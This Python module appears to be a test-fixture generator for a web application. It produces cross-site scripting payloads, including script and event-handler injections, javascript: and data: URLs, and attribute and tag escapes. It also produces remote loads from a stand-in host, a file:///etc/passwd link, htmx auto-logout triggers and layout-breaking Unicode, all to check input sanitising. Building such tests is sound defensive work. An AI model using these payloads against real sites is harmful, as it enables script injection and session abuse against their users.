"""Texts that try to run, to load from elsewhere, or to break a page, for every field there is.

Whatever runs calls `ran()`, which no page has: a test defines it. Whatever loads asks `ELSEWHERE`.
"""

from collections.abc import Iterable, Iterator
from itertools import product
from random import Random

ELSEWHERE = "https://elsewhere.example"
# Out of each place in which a page puts words: attribute, title, field, script, comment.
OUT = "'\"></title></textarea></select></script>-->"
NAME = f"{OUT}<img src=x onerror=ran()>"

# A line each, as one would type it into a text.
MARKUP = [
    "<script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT\t>",
    "<script\n>ran()</script\n>",
    f"<script src={ELSEWHERE}/a.js></script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    "<img src=x onerror\n=\n'ran()'>",
    "<IMG SRC=x OnErRoR=ran() //",
    f'<img src="{ELSEWHERE}/a.png">',
    f'<img srcset="{ELSEWHERE}/b.png 1x">',
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    f"<svg><image href='{ELSEWHERE}/c.png'/></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<math href='javascript:ran()'>press</math>",
    "<iframe src='javascript:ran()'></iframe>",
    f"<iframe srcdoc='<script>parent.ran()</script>' src={ELSEWHERE}></iframe>",
    "<object data='javascript:ran()'></object>",
    f"<embed src={ELSEWHERE}/a.swf>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import '{ELSEWHERE}/b.css';*{{display:none}}</style>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<body onload=ran()>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    f"<video poster={ELSEWHERE}/d.png src={ELSEWHERE}/a.mp4 autoplay></video>",
    f"<audio src={ELSEWHERE}/a.mp3 autoplay></audio>",
    f"<form action={ELSEWHERE}><button>Send</button></form>",
    "<button form=ticks formaction='javascript:ran()'>press</button>",
    "<a href='javascript:ran()'>press</a>",
    "<div style='position:fixed;inset:0;z-index:9'>over all</div>",
    f"<div style='background:url({ELSEWHERE}/e.png)'>x</div>",
    "<template><img src=x onerror=ran()></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<textarea></textarea><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</script><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script><![CDATA[",
    "'\"><img src=x onerror=ran()>",
    "' onfocus=ran() autofocus x='",
    '" onfocus=ran() autofocus x="',
    "`${ran()}`",
    "{{ ran }}{% load static %}{% debug %}",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "<img src=x hx-on:error=ran() hx-get=/accounts/ hx-trigger=load>",
    "<div hx-post=/accounts/logout/ hx-trigger=load data-hx-get=/x>x</div>",
    "<marquee onstart=ran()>x",
    "<isindex action=javascript:ran() type=image>",
    "<x contenteditable onblur=ran()>press</x>",
    "<plaintext>",
    "<!--",
    "<!DOCTYPE html><html><head>",
]
LINKS = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "&#106;avascript:ran()",
    "javascript&colon;ran()",
    "\x01javascript:ran()",
    "vbscript:ran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=ran()>",
    f"{ELSEWHERE}/f.png",
    f"//{ELSEWHERE.removeprefix('https://')}/g.png",
    f"/\\{ELSEWHERE.removeprefix('https://')}/h.png",
    "file:///etc/passwd",
    "x' onerror='ran()",
    'x" onerror="ran()',
]
WRAPPED = [
    "[press]({})",
    "![shown]({})",
    '![shown]({} "a title")',
    "[press][a]\n\n[a]: {}",
    "<{}>",
    "[![both]({})](https://example.org)",
    "$\\href{{{}}}{{x}}$",
    "| a |\n| - |\n| [press]({}) |",
    "> [press]({})",
    ":::tip [press]({})\ninside\n:::",
    "Term\n: [press]({})",
    "Note.[^1]\n\n[^1]: [press]({})",
]
FORMULAS = [
    r"$\text{<img src=x onerror=ran()>}$",
    r"$\unicode{x3c}script>ran()$",
    r"$\class{x}{\style{color:red}{y}}$",
    r"$$\href{javascript:ran()}{x}$$",
    "$<script>ran()</script>$",
    "$\\color{red}{x}\\rule{100000px}{100000px}$",
]
CODE = [
    "```html\n<script>ran()</script>\n```",
    '```"><script>ran()</script>\nx\n```',
    "```{.python onclick=ran()}\nx = 1\n```",
    "`<script>ran()</script>`",
    "~~~ {#main .btn}\n<img src=x onerror=ran()>\n~~~",
]
# What widens, hides or turns a page.
SHAPES = [
    "W" * 190,
    "https://example.org/" + "a" * 150,
    "\u202eturned round\u2066",
    "Z\u0351\u034d" + "\u0310" * 60,
    "\u200b\u2060\ufeff",
    "🙂" * 60,
    "﷽" * 20,
    "# " * 20,
    "- " * 20 + "x",
]


def markdown() -> list[str]:
    """Every vector as a paragraph or block of its own."""
    links = [wrapped.format(link) for link, wrapped in product(LINKS, WRAPPED)]
    return [*MARKUP, *links, *FORMULAS, *CODE, *SHAPES]


def generated(rng: Random, number: int) -> Iterator[str]:
    """Vectors cut and joined anew, as nobody would think of them."""
    known = markdown()
    for _ in range(number):
        one, other = rng.choice(known), rng.choice(known)
        cut, at = rng.randrange(len(one) + 1), rng.randrange(len(other) + 1)
        joint = rng.choice(["", "\n", "<", '"', "](", "`", "$", "|", "\t", "&"])
        whole = one[:cut] + joint + other[at:]
        # An open fence would make harmless code of all that follows it.
        if not any(fence in whole for fence in ("```", "~~~", ":::")):
            yield whole


def texts(parts: Iterable[str], longest: int = 5000) -> list[str]:
    """`parts` as paragraphs of as few texts as hold them."""
    found = [""]
    for one in parts:
        if len(found[-1]) + len(one) > longest:
            found.append("")
        found[-1] += f"{one}\n\n"
    return found


def lines(parts: Iterable[str], longest: int = 190) -> list[str]:
    """Those of `parts` that fit into a field of one line."""
    return [one for one in parts if len(one) <= longest and "\n" not in one and one.strip()]


def names(longest: int = 190) -> list[str]:
    """The lines, and most of them once more where they leave the place that they were put in."""
    found = lines(markdown(), longest)
    return [word for one in found for word in (one, OUT + one) if len(word) <= longest]


def name(longest: int = 190) -> str:
    """For a field of which there is only one: it leaves its place, and it is wide."""
    return NAME + "W" * (longest - len(NAME))
